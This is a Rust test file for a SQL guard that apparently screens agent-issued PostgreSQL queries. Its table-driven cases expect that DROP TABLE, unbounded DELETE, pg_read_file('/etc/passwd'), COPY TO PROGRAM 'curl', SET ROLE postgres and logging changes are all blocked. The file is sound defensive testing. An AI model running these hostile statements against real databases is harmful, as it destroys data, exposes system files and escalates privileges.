//! Table-driven decisions: (sql, identity, expected action and rule) against the shipped
//! baseline, covering THREATS.md classes A–D, plus false-positive traps.

use super::*;
use crate::classify::classify_now;

const BASELINE: &str = include_str!("../../rules/baseline.yaml");

fn baseline() -> RuleSet {
    RuleSet::from_sources(&[("baseline.yaml".into(), BASELINE.into())]).expect("baseline compiles")
}

fn decide(set: &RuleSet, sql: &str, groups: &[&str]) -> Decision {
    let groups: Vec<String> = groups.iter().map(|g| g.to_string()).collect();
    match classify_now(sql) {
        Ok(c) => set.decide(
            &c.statements,
            &Subject {
                user: "agent-1",
                groups: &groups,
                target: "demo",
                search_path_changed: false,
            },
        ),
        Err(_) => Decision {
            action: Action::Block,
            rules: vec![],
            deciding_rule: "unparseable".into(),
            description: String::new(),
            statement: None,
        },
    }
}

macro_rules! cases {
    ($set:expr, $groups:expr, [$(($sql:expr, $action:ident, $rule:expr)),* $(,)?]) => {
        $(
            let d = decide(&$set, $sql, $groups);
            assert_eq!((d.action, d.deciding_rule.as_str()), (Action::$action, $rule), "{}", $sql);
        )*
    };
}

#[test]
fn class_a_lexical_tricks() {
    let set = baseline();
    cases!(
        set,
        &["agents"],
        [
            ("DR/**/OP TABLE users", Block, "unparseable"),
            ("/* x /* nested */ y */ DROP TABLE users", Block, "no-drop"),
            ("dRoP\tTABLE users", Block, "no-drop"),
            ("DROP TABLE \"users\"", Block, "no-drop"),
            ("DROP TABLE U&\"\\0075sers\"", Block, "no-drop"),
            ("SELECT 1; DROP -- trailing\n TABLE users", Block, "no-drop"),
            ("SELECT E'x\\'; DROP TABLE users; --'", Allow, "default"),
            ("SELECT $a$ $$ DROP TABLE users $$ $a$", Allow, "default"),
        ]
    );
}

#[test]
fn class_a_false_positive_traps() {
    let set = baseline();
    cases!(
        set,
        &["agents"],
        [
            ("SELECT 'DROP TABLE users; DELETE FROM t'", Allow, "default"),
            (
                "SELECT drop_date, delete_requests, truncate_flag FROM jobs WHERE id = 1",
                Allow,
                "default"
            ),
            ("SELECT 1 /* DELETE FROM users */", Allow, "default"),
            (
                "UPDATE jobs SET drop_date = now() WHERE id = 7",
                Allow,
                "default"
            ),
            ("SELECT * FROM pg_read_file_log", Allow, "default"),
            ("SELECT \"pg_read_file\" FROM t", Allow, "default"),
        ]
    );
}

#[test]
fn class_b_structural_placement() {
    let set = baseline();
    cases!(
        set,
        &["agents"],
        [
            ("SELECT 1; DELETE FROM users", Block, "no-unbounded-writes"),
            (
                "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
                Block,
                "no-unbounded-writes"
            ),
            (
                "WITH x AS (SELECT 1) DELETE FROM users",
                Block,
                "no-unbounded-writes"
            ),
            (
                "DELETE FROM users USING orders",
                Block,
                "no-unbounded-writes"
            ),
            (
                "UPDATE users SET name = 'x' FROM orders",
                Block,
                "no-unbounded-writes"
            ),
            (
                "EXPLAIN ANALYZE DELETE FROM users",
                Block,
                "no-unbounded-writes"
            ),
            (
                "COPY (DELETE FROM users RETURNING *) TO STDOUT",
                Block,
                "no-unbounded-writes"
            ),
            (
                "PREPARE p AS DELETE FROM users",
                Block,
                "no-unbounded-writes"
            ),
            (
                "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM users",
                Block,
                "no-unbounded-writes"
            ),
            (
                "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END",
                Block,
                "no-unbounded-writes"
            ),
            (
                "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
                Allow,
                "default"
            ),
            ("DELETE FROM users WHERE true", Block, "no-unbounded-writes"),
            ("DELETE FROM users WHERE 1=1", Block, "no-unbounded-writes"),
            (
                "UPDATE users SET a = 1 WHERE id = id",
                Block,
                "no-unbounded-writes"
            ),
            ("DROP OWNED BY bob", Block, "no-drop"),
            (
                "ALTER TABLE users ADD COLUMN x int, DROP COLUMN ssn",
                Block,
                "no-drop"
            ),
            ("TRUNCATE users", Block, "no-drop"),
            ("DELETE FROM users WHERE id = 42", Allow, "default"),
        ]
    );
}

#[test]
fn class_c_deferred_and_string_carried_sql() {
    let set = baseline();
    // People may run DO blocks; string-built SQL in them is still refused.
    cases!(set, &["dba"], [
        ("DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$", Block, "unanalysable"),
        ("DO $$ BEGIN EXECUTE format('DELETE FROM %I', 'users'); END $$", Block, "unanalysable"),
        ("DO $$ BEGIN EXECUTE convert_from(decode('44524f50', 'hex'), 'UTF8'); END $$", Block, "unanalysable"),
        ("DO $$ BEGIN DELETE FROM users; END $$", Block, "no-unbounded-writes"),
        ("DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", Block, "no-server-files"),
        ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DROP TABLE users'", Block, "no-drop"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'x'; RETURN 1; END $$", Block, "unanalysable"),
        ("SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')", Block, "no-side-connections"),
        ("SELECT dblink_exec('dbname=x', 'DROP TABLE users')", Block, "no-side-connections"),
        ("DO $$ BEGIN RAISE NOTICE 'hello'; END $$", Allow, "default"),
    ]);
    cases!(
        set,
        &["agents"],
        [(
            "DO $$ BEGIN RAISE NOTICE 'hello'; END $$",
            Block,
            "no-do-for-agents"
        ),]
    );
}

#[test]
fn class_d_privilege_and_configuration() {
    let set = baseline();
    cases!(
        set,
        &["agents"],
        [
            ("SET ROLE postgres", Block, "no-role-changes"),
            ("SET LOCAL ROLE postgres", Block, "no-role-changes"),
            (
                "SET SESSION AUTHORIZATION postgres",
                Block,
                "no-role-changes"
            ),
            (
                "SELECT set_config('role', 'postgres', false)",
                Block,
                "no-role-changes"
            ),
            (
                "UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'",
                Block,
                "no-role-changes"
            ),
            (
                "ALTER ROLE app SET role = 'postgres'",
                Block,
                "no-role-changes"
            ),
            (
                "ALTER SYSTEM SET log_statement = 'none'",
                Block,
                "no-logging-changes"
            ),
            ("SET log_statement = 'none'", Block, "no-logging-changes"),
            ("LOAD 'auto_explain'", Block, "no-server-config"),
            (
                "UPDATE pg_catalog.pg_class SET relname = 'x' WHERE relname = 'secret'",
                Block,
                "no-catalog-writes"
            ),
            (
                "DELETE FROM pg_attribute WHERE attname = 'ssn'",
                Block,
                "no-catalog-writes"
            ),
            (
                "UPDATE pg_settings SET setting = '8MB' WHERE name = 'work_mem'",
                Allow,
                "default"
            ),
            ("CREATE EXTENSION dblink", Block, "no-server-config"),
            (
                "CREATE OPERATOR !!! (FUNCTION = pg_read_file, RIGHTARG = text)",
                Block,
                "no-server-files"
            ),
            (
                "CREATE CAST (text AS int8) WITH FUNCTION pg_read_file(text)",
                Block,
                "no-server-files"
            ),
            (
                "CREATE DOMAIN d AS text CHECK (pg_read_file(VALUE) <> '')",
                Block,
                "no-server-files"
            ),
            (
                "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')",
                Block,
                "no-server-files"
            ),
            (
                "WITH x AS (SELECT pg_catalog.pg_read_file('/etc/passwd')) SELECT * FROM x",
                Block,
                "no-server-files"
            ),
            (
                "SELECT count(*) FILTER (WHERE pg_ls_dir('.') IS NOT NULL) FROM t",
                Block,
                "no-server-files"
            ),
            (
                "SELECT CASE WHEN false THEN pg_read_file('x') END",
                Block,
                "no-server-files"
            ),
            ("SELECT * FROM pg_ls_dir('.')", Block, "no-server-files"),
            ("SELECT \"PG_READ_FILE\"('x')", Block, "no-server-files"),
            (
                "COPY users TO PROGRAM 'curl http://x'",
                Block,
                "no-copy-to-server"
            ),
            ("COPY users FROM '/etc/passwd'", Block, "no-copy-to-server"),
            ("SELECT lo_import('/etc/passwd')", Block, "no-server-files"),
            ("SELECT lo_export(1, '/tmp/x')", Block, "no-server-files"),
            (
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
                Block,
                "no-signalling-backends"
            ),
            (
                "SELECT pg_cancel_backend(1)",
                Block,
                "no-signalling-backends"
            ),
            (
                "ALTER TABLE w ALTER COLUMN qty TYPE bigint USING 0",
                Block,
                "no-unbounded-writes"
            ),
            (
                "ALTER TABLE w ALTER COLUMN qty TYPE bigint",
                Allow,
                "default"
            ),
            ("SELECT pg_reload_conf()", Block, "no-signalling-backends"),
            ("SET search_path = public", Allow, "default"),
            ("COPY users TO STDOUT", Allow, "default"),
        ]
    );
}

#[test]
fn precedence_unless_and_default() {
    let text = r#"
default: block
rules:
  - id: reads
    when: { statement: select }
    action: allow
  - id: hr
    when: { tables: ["hr.*"] }
    unless: { groups: [hr] }
    action: block
  - id: billing
    when: { tables_written: ["billing.*"] }
    action: approve
    approvers: [dba]
"#;
    let set = RuleSet::from_sources(&[("t.yaml".into(), text.into())]).unwrap();
    cases!(
        set,
        &["agents"],
        [
            ("SELECT 1", Allow, "reads"),
            ("SELECT * FROM hr.salaries", Block, "hr"),
            (
                "INSERT INTO billing.invoices VALUES (1)",
                Approve,
                "billing"
            ),
            (
                "SELECT 1; INSERT INTO billing.invoices VALUES (1)",
                Approve,
                "billing"
            ),
            (
                "SELECT 1; INSERT INTO billing.x VALUES (1); SELECT * FROM hr.x",
                Block,
                "hr"
            ),
            ("VACUUM", Block, "default"),
        ]
    );
    cases!(
        set,
        &["hr"],
        [("SELECT * FROM hr.salaries", Allow, "reads")]
    );
}

#[test]
fn validation_errors_name_file_line_and_rule() {
    let text = "rules:\n  - id: a\n    when: { statement: [dorp] }\n    action: block\n  - id: a\n    action: block\n  - id: b\n    when: { functions: [\"x[\"] }\n    action: maybe\nmasks:\n  - id: m\n    columns: [users.ssn]\n    method: scramble\ndetect:\n  - id: d\n    kind: regex\n    method: redact\n    pattern: \"(unclosed\"\n";
    let errs = RuleSet::from_sources(&[("r.yaml".into(), text.into())]).unwrap_err();
    let all = errs.join("\n");
    assert!(
        all.contains("r.yaml:2: rule \"a\": unknown statement kind \"dorp\""),
        "{all}"
    );
    assert!(all.contains("rule \"a\": duplicate rule id"), "{all}");
    assert!(
        all.contains("r.yaml:7: rule \"b\": action must be"),
        "{all}"
    );
    assert!(all.contains("rule \"m\": unknown mask method"), "{all}");
    assert!(all.contains("rule \"d\": bad regex"), "{all}");
    let errs = RuleSet::from_sources(&[(
        "u.yaml".into(),
        "rules:\n  - id: x\n    actoin: block\n".into(),
    )])
    .unwrap_err();
    // Both mistakes at once: the misspelt key, and so the missing one.
    assert!(
        errs.iter()
            .any(|e| e.starts_with("u.yaml:3: rule \"x\": unknown key \"actoin\"")),
        "{errs:?}"
    );
    assert!(
        errs.iter().any(|e| e.contains("missing field `action`")),
        "{errs:?}"
    );
    let errs = RuleSet::from_sources(&[
        ("a.yaml".into(), "default: block\n".into()),
        ("b.yaml".into(), "default: allow\n".into()),
    ])
    .unwrap_err();
    assert!(
        errs[0].contains("default is already set in a.yaml"),
        "{errs:?}"
    );
}

#[test]
fn shipped_examples_compile() {
    for (name, text) in [
        (
            "read-only-agents.yaml",
            include_str!("../../rules/examples/read-only-agents.yaml"),
        ),
        (
            "per-table-limits.yaml",
            include_str!("../../rules/examples/per-table-limits.yaml"),
        ),
        (
            "allowlist.yaml",
            include_str!("../../rules/examples/allowlist.yaml"),
        ),
    ] {
        RuleSet::from_sources(&[(name.into(), text.into())])
            .unwrap_or_else(|e| panic!("{name}: {e:?}"));
    }
    let ro = RuleSet::from_sources(&[(
        "r".into(),
        include_str!("../../rules/examples/read-only-agents.yaml").into(),
    )])
    .unwrap();
    cases!(
        ro,
        &["agents"],
        [
            ("SELECT * FROM users", Allow, "default"),
            ("INSERT INTO t VALUES (1)", Block, "agents-read-only"),
            ("CREATE TABLE t AS SELECT 1", Block, "agents-read-only"),
        ]
    );
}

#[test]
fn unqualified_tables_follow_a_changed_search_path() {
    let text = "rules:\n  - id: hr\n    when: { tables: [\"hr.*\"] }\n    action: block\n";
    let set = RuleSet::from_sources(&[("t.yaml".into(), text.into())]).unwrap();
    let c = classify_now("SELECT * FROM salaries").unwrap();
    let mut who = Subject {
        user: "a",
        groups: &[],
        target: "demo",
        search_path_changed: false,
    };
    assert_eq!(
        set.decide(&c.statements, &who).action,
        Action::Allow,
        "public.salaries by default"
    );
    who.search_path_changed = true;
    assert_eq!(
        set.decide(&c.statements, &who).action,
        Action::Block,
        "could be hr.salaries now"
    );
    let c = classify_now("SELECT * FROM public.salaries").unwrap();
    assert_eq!(
        set.decide(&c.statements, &who).action,
        Action::Allow,
        "qualified names stay put"
    );
}

#[test]
fn method_null_unquoted_is_the_null_method() {
    let set = RuleSet::from_sources(&[(
        "m.yaml".into(),
        "masks:\n  - id: pay\n    columns: [hr.salaries.salary]\n    method: null\n".into(),
    )])
    .unwrap();
    assert_eq!(set.masks[0].method, crate::mask::method::Method::Null);
    let shipped = RuleSet::from_sources(&[(
        "masks.yaml".into(),
        include_str!("../../rules/masks.yaml").into(),
    )]);
    assert!(shipped.is_ok(), "{shipped:?}");
}

/// THREATS.md class H (issue 18): code libpg_query's PL/pgSQL output leaves out, and
/// DDL that drops without DROP, through the baseline.
#[test]
fn class_h_hidden_code_and_drops_without_drop() {
    let set = baseline();
    cases!(set, &["dba"], [
        ("DO $$ DECLARE r record := (SELECT pg_read_file('/etc/passwd')); BEGIN END $$", Block, "no-server-files"),
        ("DO $$ DECLARE r users := (SELECT u FROM users u WHERE set_config('role', 'postgres', false) IS NULL); BEGIN END $$", Block, "no-role-changes"),
        ("DO $$ DECLARE r record DEFAULT row(lo_import('/etc/passwd')); BEGIN END $$", Block, "no-server-files"),
        ("CREATE FUNCTION t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM audit; RETURN NEW; END $$", Block, "no-unbounded-writes"),
        ("CREATE FUNCTION t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); RETURN NEW; END $$", Allow, "default"),
        ("DO $$ DECLARE n int := (SELECT count(*) FROM users); r record := row(1); BEGIN RAISE NOTICE '% %', n, r; END $$", Allow, "default"),
        ("ALTER DOMAIN d DROP CONSTRAINT positive", Block, "no-drop"),
        ("ALTER DOMAIN d DROP DEFAULT", Block, "no-drop"),
        ("ALTER TABLE users ALTER COLUMN email DROP DEFAULT", Block, "no-drop"),
        ("ALTER TABLE events DETACH PARTITION events_2024", Block, "no-drop"),
        ("ALTER TEXT SEARCH CONFIGURATION c DROP MAPPING FOR word", Block, "no-drop"),
        ("ALTER TABLE users ALTER COLUMN email SET DEFAULT ''", Allow, "default"),
        ("ALTER TABLE users RESET (fillfactor)", Allow, "default"),
    ]);
}
